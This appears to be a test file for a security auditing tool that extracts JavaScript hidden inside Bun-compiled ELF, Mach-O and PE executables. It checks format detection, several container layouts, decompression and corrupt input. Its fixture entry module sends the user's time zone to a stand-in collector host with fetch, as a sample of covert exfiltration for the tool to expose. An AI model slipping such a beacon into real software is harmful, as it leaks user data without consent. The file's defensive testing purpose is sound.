import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { ContainerError, openExecutable, sniffExecutable, type ContainerResult } from '../../src/acquire/executables/index.js';
import { appendBunGraph, buildBunGraph, buildElf, buildFat, buildMacho, buildPe, bunSection, zstdRawFrame, type GraphModule } from './fixtures.js';

let dir: string;
let counter = 0;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'telltale-exe-'));
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function openBuffer(buf: Buffer, display = 'package/bin/tool'): Promise<ContainerResult> {
  const diskPath = join(dir, `exe-${counter++}`);
  await writeFile(diskPath, buf);
  return openExecutable({ path: display, size: buf.length, diskPath, read: () => Promise.reject(new Error('container must not be read whole')) });
}

const ENTRY = `// @bun\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nfetch("https://collector.example/" + tz);\n`;
const CHUNK = `export const region = "MARKER_CHUNK";\n`;
const MODULES: GraphModule[] = [
  { name: '/$bunfs/root/cli', contents: ENTRY },
  { name: '/$bunfs/root/chunk-1.js', contents: CHUNK },
  { name: '/$bunfs/root/logo.png', contents: Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]), loader: 5, encoding: 0 },
];

async function texts(result: ContainerResult): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const m of result.modules) out.set(m.path, (await m.read()).toString('utf8'));
  return out;
}

describe('sniffExecutable', () => {
  it('recognises the three formats and rejects others', () => {
    assert.equal(sniffExecutable(Buffer.from('\x7fELF\x02\x01\x01', 'latin1')), 'elf');
    assert.equal(sniffExecutable(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0, 0, 0, 0])), 'macho');
    assert.equal(sniffExecutable(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])), 'macho');
    // A Java class file shares the fat magic but has a large version word.
    assert.equal(sniffExecutable(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])), null);
    assert.equal(sniffExecutable(buildPe([]).subarray(0, 4096)), 'pe');
    const notPe = Buffer.alloc(0x80);
    notPe.write('MZ', 0, 'latin1');
    notPe.writeUInt32LE(0x40, 0x3c);
    assert.equal(sniffExecutable(notPe), null);
    assert.equal(sniffExecutable(Buffer.from('#!/usr/bin/env node\n')), null);
  });
});

describe('Bun module graph in each container format', () => {
  const cases: [string, () => Buffer, string][] = [
    ['ELF .bun section', () => buildElf([{ name: '.text', data: Buffer.alloc(64) }, { name: '.bun', data: bunSection(buildBunGraph(MODULES)) }]), 'elf'],
    ['Mach-O __BUN,__bun section', () => buildMacho([{ name: '__text', segment: '__TEXT', data: Buffer.alloc(64) }, { name: '__bun', segment: '__BUN', data: bunSection(buildBunGraph(MODULES)) }]), 'macho'],
    ['PE .bun section', () => buildPe([{ name: '.text', data: Buffer.alloc(64) }, { name: '.bun', data: bunSection(buildBunGraph(MODULES)) }]), 'pe'],
    ['universal Mach-O, graph in the second slice', () => buildFat([buildMacho([{ name: '__text', segment: '__TEXT', data: Buffer.alloc(64) }]), buildMacho([{ name: '__bun', segment: '__BUN', data: bunSection(buildBunGraph(MODULES)) }])]), 'macho'],
    ['early Mach-O layout with a u32 length header', () => {
      const graph = buildBunGraph(MODULES);
      const len = Buffer.alloc(4);
      len.writeUInt32LE(graph.length);
      return buildMacho([{ name: '__bun', segment: '__BUN', data: Buffer.concat([len, graph, Buffer.alloc(12)]) }]);
    }, 'macho'],
    ['appended graph with trailer (pre-section layout)', () => appendBunGraph(buildElf([{ name: '.text', data: Buffer.alloc(64) }]), buildBunGraph(MODULES)), 'elf'],
  ];
  for (const [label, build, format] of cases) {
    it(label, async () => {
      const result = await openBuffer(build());
      assert.equal(result.kind, 'bun');
      assert.equal(result.format, format);
      assert.deepEqual(
        result.modules.map((m) => [m.path, m.size, m.entryPoint]),
        [
          ['package/bin/tool!/$bunfs/root/cli', ENTRY.length, true],
          ['package/bin/tool!/$bunfs/root/chunk-1.js', CHUNK.length, false],
        ],
      );
      const text = await texts(result);
      assert.equal(text.get('package/bin/tool!/$bunfs/root/cli'), ENTRY);
      assert.equal(text.get('package/bin/tool!/$bunfs/root/chunk-1.js')!.indexOf('MARKER_CHUNK'), CHUNK.indexOf('MARKER_CHUNK'));
      assert.ok(result.notes.some((n) => n.includes('1 .png')), result.notes.join('\n'));
    });
  }

  it('older generation: 36-byte module records and a 24-byte Offsets header', async () => {
    const graph = buildBunGraph(MODULES, { recordSize: 36, offsetsSize: 24 });
    const result = await openBuffer(appendBunGraph(buildElf([]), graph));
    assert.equal(result.kind, 'bun');
    assert.deepEqual(result.modules.map((m) => m.path.split('!')[1]), ['/$bunfs/root/cli', '/$bunfs/root/chunk-1.js']);
    assert.ok(result.notes[0]!.includes('36-byte module records'), result.notes[0]);
    assert.equal((await texts(result)).get('package/bin/tool!/$bunfs/root/cli'), ENTRY);
  });

  it('Windows-style names and compile-time argv are reported', async () => {
    const graph = buildBunGraph([{ name: 'B:/~BUN/root/app.exe', contents: ENTRY }], { execArgv: '--smol --inspect=0.0.0.0:9229' });
    const result = await openBuffer(buildPe([{ name: '.bun', data: bunSection(graph) }]), 'bin/app.exe');
    assert.equal(result.modules[0]!.path, 'bin/app.exe!B:/~BUN/root/app.exe');
    assert.ok(result.notes.includes('compile-time runtime arguments: --smol --inspect=0.0.0.0:9229'), result.notes.join('\n'));
  });

  it('compressed script assets are decompressed on read (zstd and gzip)', async () => {
    const big = `/* vendored */ var MARKER_ZSTD = ${JSON.stringify('x'.repeat(300_000))};\n`;
    const small = 'module.exports = "MARKER_GZIP";\n';
    const graph = buildBunGraph([
      { name: '/$bunfs/root/cli', contents: ENTRY },
      { name: '/$bunfs/root/vendor.min.js', contents: zstdRawFrame(Buffer.from(big)), loader: 5, encoding: 0 },
      { name: '/$bunfs/root/extra.cjs.gz', contents: gzipSync(small), loader: 5, encoding: 0 },
      { name: '/$bunfs/root/tool.py.zst', contents: zstdRawFrame(Buffer.from('print(1)')), loader: 5, encoding: 0 },
    ]);
    const result = await openBuffer(buildElf([{ name: '.bun', data: bunSection(graph) }]));
    const vendor = result.modules.find((m) => m.embeddedPath === '/$bunfs/root/vendor.min.js')!;
    const gz = result.modules.find((m) => m.embeddedPath === '/$bunfs/root/extra.cjs.gz')!;
    assert.equal(vendor.compression, 'zstd');
    assert.equal(vendor.size, big.length);
    assert.equal((await vendor.read()).toString(), big);
    assert.equal(gz.compression, 'gzip');
    assert.equal(gz.size, small.length);
    assert.equal((await gz.read()).toString(), small);
    assert.equal(result.modules.length, 3, 'the compressed Python file is not a script');
    assert.ok(result.notes.some((n) => n.includes('1 .zst')));
  });

  it('Latin-1 module text is re-encoded as UTF-8', async () => {
    const graph = buildBunGraph([{ name: '/$bunfs/root/cli', contents: Buffer.from('const s = "caf\xe9";', 'latin1'), encoding: 1 }]);
    const result = await openBuffer(buildElf([{ name: '.bun', data: bunSection(graph) }]));
    assert.equal((await result.modules[0]!.read()).toString('utf8'), 'const s = "café";');
  });

  it('an empty .bun section is the plain runtime, not a container', async () => {
    const result = await openBuffer(buildElf([{ name: '.bun', data: Buffer.alloc(8) }]));
    assert.equal(result.kind, 'none');
    assert.deepEqual(result.modules, []);
    assert.deepEqual(result.notes, ['Bun runtime without an embedded module graph']);
  });

  it('a plain executable has no container', async () => {
    const result = await openBuffer(buildElf([{ name: '.text', data: Buffer.alloc(256, 0x90) }]));
    assert.deepEqual([result.kind, result.format, result.modules.length, result.notes.length], ['none', 'elf', 0, 0]);
  });
});

describe('corrupt Bun containers', () => {
  const graph = buildBunGraph(MODULES);
  const elf = buildElf([{ name: '.text', data: Buffer.alloc(64) }, { name: '.bun', data: bunSection(graph) }]);
  const bunAt = elf.indexOf(graph.subarray(0, 16)) - 8;

  it('non-executables are refused with a one-line ContainerError', async () => {
    await assert.rejects(openBuffer(Buffer.from('just text')), (err: Error) => err instanceof ContainerError && /not an ELF, Mach-O or PE/.test(err.message) && !err.message.includes('\n'));
  });

  it('truncation is a ContainerError, unless a whole graph is left: then its code is audited as hidden from the headers', async () => {
    const graphEnd = bunAt + 8 + graph.length;
    const points = new Set([0, 3, 16, 63, 64, 100, bunAt + 4, bunAt + 40, bunAt + graph.length - 20, graphEnd - 1, graphEnd, elf.length - 65, elf.length - 1]);
    for (let p = 0; p < elf.length; p += Math.ceil(elf.length / 25)) points.add(p);
    for (const p of points) {
      if (p < graphEnd) {
        await assert.rejects(openBuffer(elf.subarray(0, p)), ContainerError, `truncated at ${p}`);
      } else {
        const result = await openBuffer(elf.subarray(0, p));
        assert.match(result.hiddenFromHeaders ?? '', /headers cannot be read/, `truncated at ${p}`);
        assert.ok(result.modules.some((m) => m.embeddedPath === '/$bunfs/root/cli'), `truncated at ${p}`);
      }
    }
  });

  it('a damaged trailer, length or table is a ContainerError', async () => {
    const damage: [string, (b: Buffer) => void][] = [
      ['trailer byte', (b) => (b[bunAt + 8 + graph.length - 5] ^= 0xff)],
      ['byte_count', (b) => b.writeBigUInt64LE(12345n, bunAt + 8 + graph.length - 48)],
      ['module table length', (b) => b.writeUInt32LE(51, bunAt + 8 + graph.length - 48 + 12)],
      ['entry point id', (b) => b.writeUInt32LE(7, bunAt + 8 + graph.length - 48 + 16)],
      ['a name pointer', (b) => b.writeUInt32LE(0x7fffffff, bunAt + 8 + graph.readUInt32LE(graph.length - 48 + 8))],
    ];
    for (const [label, apply] of damage) {
      const copy = Buffer.from(elf);
      apply(copy);
      await assert.rejects(openBuffer(copy), ContainerError, label);
    }
    // A section length that does not match an intact graph: the graph is still found, as hidden from the headers.
    const copy = Buffer.from(elf);
    copy.writeBigUInt64LE(BigInt(graph.length + 4), bunAt);
    assert.match((await openBuffer(copy)).hiddenFromHeaders ?? '', /headers cannot be read/);
  });

  it('random byte flips either open or fail with ContainerError, never anything else', async () => {
    let seed = 12345;
    const rand = (n: number): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const targets = [elf, buildMacho([{ name: '__bun', segment: '__BUN', data: bunSection(graph) }]), buildPe([{ name: '.bun', data: bunSection(graph) }])];
    for (let i = 0; i < 150; i++) {
      const copy = Buffer.from(targets[i % targets.length]!);
      for (let k = 0; k < 3; k++) copy[rand(copy.length)] = rand(256);
      try {
        const result = await openBuffer(copy);
        for (const m of result.modules) await m.read();
      } catch (err) {
        assert.ok(err instanceof ContainerError, `iteration ${i}: ${(err as Error).stack}`);
      }
    }
  });
});
